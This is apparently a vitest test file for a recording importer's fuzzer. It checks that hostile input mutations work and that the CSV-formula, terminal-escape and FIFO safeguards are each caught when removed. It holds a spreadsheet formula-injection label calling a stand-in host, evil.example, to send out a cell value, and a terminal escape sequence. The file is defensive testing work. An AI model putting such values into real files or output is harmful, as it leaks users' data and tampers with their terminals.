// The fuzzer's hostile inputs (issue 13) are only worth their cases if they make what they say they make and
// if the checks behind them fail when the safety they check is gone. Both are checked here: each mutation on a
// seed, and each check against a build with one safeguard removed (a raw CSV writer, raw printing, a reader
// that opens whatever is at the path).
import { describe, expect, it, vi } from 'vitest';
import { Prng } from '../../core/simulate/prng';
import { ImportError, importRecording, bytesSource } from '../../core/import/index';
import { canMakeFifo } from '../support/fifo';
import { fullFixture, genericSeed, headOf } from './corpus';
import { runFsScenario } from './fs-scenarios';
import { MUTATIONS } from './mutations';
import { FuzzFailure, runCase } from './outcome';

const unsafe = vi.hoisted(() => ({ csv: false, print: false, open: false }));

vi.mock('../../core/csv/write', async (original) => {
  const real = await original<typeof import('../../core/csv/write')>();
  const rawTable = (header: readonly string[], rows: Iterable<readonly (string | number | null | undefined)[]>) =>
    [header, ...rows].map((r) => r.map((v) => (typeof v === 'string' && /[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : String(v ?? ''))).join(',')).join('\n') + '\n';
  return { ...real, csvTable: (h: readonly string[], rows: Iterable<readonly (string | number | null | undefined)[]>) => (unsafe.csv ? rawTable(h, rows) : real.csvTable(h, rows)) };
});
vi.mock('../../cli/terminal', async (original) => {
  const real = await original<typeof import('../../cli/terminal')>();
  return { ...real, printable: (text: string) => (unsafe.print ? text : real.printable(text)) };
});
vi.mock('../../node/fs/read-regular', async (original) => {
  const real = await original<typeof import('../../node/fs/read-regular')>();
  const fs = await import('node:fs/promises');
  return {
    ...real,
    openRegularFile: async (...args: Parameters<typeof real.openRegularFile>) => (unsafe.open ? { handle: await fs.open(args[1], 'r') } : real.openRegularFile(...args)),
  };
});

const enc = new TextEncoder();
const dec = new TextDecoder();
const generic = enc.encode(genericSeed(60));

async function failureOf(name: string, bytes: Uint8Array): Promise<string | null> {
  try {
    await runCase(name, bytes);
    return null;
  } catch (e) {
    if (e instanceof FuzzFailure) return e.what;
    throw e;
  }
}

/** A generic file whose channel labels are these, so they reach the exported CSV and the printout. */
function labelled(labels: string[]): Uint8Array {
  const lines = genericSeed(2000).trimEnd().split('\n');
  lines[2] = ['time_s', ...labels].join(',');
  return enc.encode(lines.join('\n') + '\n');
}

describe('the hostile mutations make what they name', () => {
  it('controlChars puts escape sequences and other controls into the header labels', () => {
    const found = new Set<string>();
    for (let seed = 1; seed <= 20; seed++) for (const m of dec.decode(MUTATIONS.controlChars(generic, new Prng(seed))).split('\n')[2].match(/[\u0000-\u001f\u007f-\u009f\u202e]/g) ?? []) found.add(m);
    expect(found.has('\u001b')).toBe(true);
    expect(found.has('\u0000')).toBe(true);
    expect(found.size).toBeGreaterThanOrEqual(5);
  });

  it('formulaCells puts spreadsheet formulas into the header labels and data cells', () => {
    const out = dec.decode(MUTATIONS.formulaCells(generic, new Prng(7))).split('\n');
    expect(out[2].split(',').slice(1).some((c) => /^[=+\-@\t"]/.test(c))).toBe(true);
    expect(out[0]).toBe('# rate_hz = 2000');
  });

  it('longLateLine puts one line of 64 KiB to 2 MiB past the head, where the streaming scanner reads it', async () => {
    const outcomes = new Set<string>();
    for (let seed = 1; seed <= 12; seed++) {
      const bytes = MUTATIONS.longLateLine(generic, new Prng(seed));
      const lines = dec.decode(bytes).split('\n');
      const long = lines.findIndex((l) => l.length >= 64 * 1024);
      expect(long).toBeGreaterThanOrEqual(400);
      expect(lines[long].length).toBeLessThanOrEqual(2 * 1024 * 1024);
      const error = await importRecording(bytesSource('late.csv', bytes)).then(
        () => null,
        (e: unknown) => e,
      );
      if (lines[long].length > 1 << 20) {
        expect(error).toBeInstanceOf(ImportError);
        expect((error as ImportError).message).toMatch(new RegExp(`^late\\.csv:${long + 1}: line ${long + 1} is over 1 MB long`));
        outcomes.add('over the limit');
      } else {
        outcomes.add('under the limit');
      }
    }
    expect(outcomes).toEqual(new Set(['over the limit', 'under the limit']));
  });

  it('headerFieldTypes gives an OpenSignals JSON header values of the wrong type', () => {
    const seed = headOf(fullFixture('opensignals-plux/emg_acc_rest_0_1.txt').bytes, 4096);
    const header = (b: Uint8Array) => dec.decode(b).split('\n').find((l) => /^#\s*\{/.test(l))!;
    const changed = [1, 2, 3, 4, 5].filter((s) => header(MUTATIONS.headerFieldTypes(seed, new Prng(s))) !== header(seed));
    expect(changed.length).toBeGreaterThanOrEqual(4);
  });
});

describe('the checks behind them fail when a safeguard is gone', () => {
  const hostile = labelled(['=HYPERLINK("http://evil.example/?"&A1;"x") EMG (uV)', 'wrist acc x (g)', 'wrist acc y (g)', 'wrist acc z (g)']);
  const escape = labelled(['left calf\u001b]0;owned\u0007 EMG (uV)', 'wrist acc x (g)', 'wrist acc y (g)', 'wrist acc z (g)']);

  it('a formula label passes with the CSV writer, and is caught with a raw one', async () => {
    expect(await failureOf('calf.csv', hostile)).toBeNull();
    unsafe.csv = true;
    try {
      expect(await failureOf('calf.csv', hostile)).toBe('CSV cell runs as a formula');
    } finally {
      unsafe.csv = false;
    }
  });

  it('an escape sequence in a label passes with the terminal filter, and is caught without it', async () => {
    expect(await failureOf('calf.csv', escape)).toBeNull();
    unsafe.print = true;
    try {
      expect(await failureOf('calf.csv', escape)).toBe('printout holds a control character');
    } finally {
      unsafe.print = false;
    }
  });

  it.runIf(canMakeFifo)('a FIFO where a recording is read settles with the regular-file check, and hangs without it', async () => {
    // Scenario 1 is the renderer's read of a granted recording, with a FIFO in its place.
    expect((await runFsScenario(1)).outcome).toBe('settled');
    unsafe.open = true;
    try {
      expect(await runFsScenario(1)).toEqual({ name: 'granted recording read (FIFO)', outcome: 'hang' });
    } finally {
      unsafe.open = false;
    }
  });
});
